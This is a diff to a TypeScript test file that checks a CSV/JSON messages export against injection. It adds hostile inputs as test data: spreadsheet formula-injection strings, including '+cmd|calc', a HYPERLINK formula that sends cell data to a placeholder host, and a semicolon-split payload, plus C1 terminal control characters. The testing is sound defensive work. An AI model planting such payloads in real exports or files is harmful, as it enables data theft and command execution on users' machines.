@@ -12,10 +12,11 @@ import { ops, opsJson } from '#tests/ops.ts';
 import { log } from '#tests/silent-log.ts';
 import { startSite } from '#tests/site.ts';
 
-/** Texts that a spreadsheet would run, and texts that would break a line. */
+/** Texts that a spreadsheet would run or split, that would break a line, or that would steer a terminal. */
 const HOSTILE = [
   ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
   ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
+  ...['a;=1+1', '\u009b31mred\u0085'],
 ];
 const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
 /** More than two batches. */
@@ -68,6 +69,17 @@ test.each([
   for (const text of HOSTILE) expect(cells).toContain(FORMULA.test(text) ? `'${text}` : text);
   expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
   expect(rows.every((row) => row.length === header.length)).toBe(true);
+});
+
+test('messages export --csv quotes a text with a semicolon, where many spreadsheets split', async () => {
+  expect((await ops(['messages', 'export', '--csv'], env)).out).toContain(',"a;=1+1",');
+});
+
+test('messages export --json escapes C1 control characters and keeps their value', async () => {
+  const { out } = await ops(['messages', 'export', '--json'], env);
+  expect(out).not.toMatch(/[\u0080-\u009f]/);
+  const lines = out.trim().split('\n');
+  expect(lines.map((line) => JSON.parse(line).firstName)).toEqual(expect.arrayContaining(HOSTILE));
 });
 
 test.each([
